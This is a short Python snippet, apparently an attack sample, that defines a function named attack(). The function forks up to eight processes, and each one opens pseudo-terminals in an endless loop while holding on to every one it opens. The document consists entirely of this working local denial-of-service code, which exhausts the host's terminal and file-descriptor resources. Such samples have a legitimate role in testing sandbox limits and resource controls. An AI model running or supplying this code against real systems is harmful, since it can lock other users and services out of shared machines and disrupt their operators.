import os


def attack():
    taken = []
    for _ in range(3):
        try:
            os.fork()
        except OSError:
            pass
    while True:
        taken.append(os.openpty())
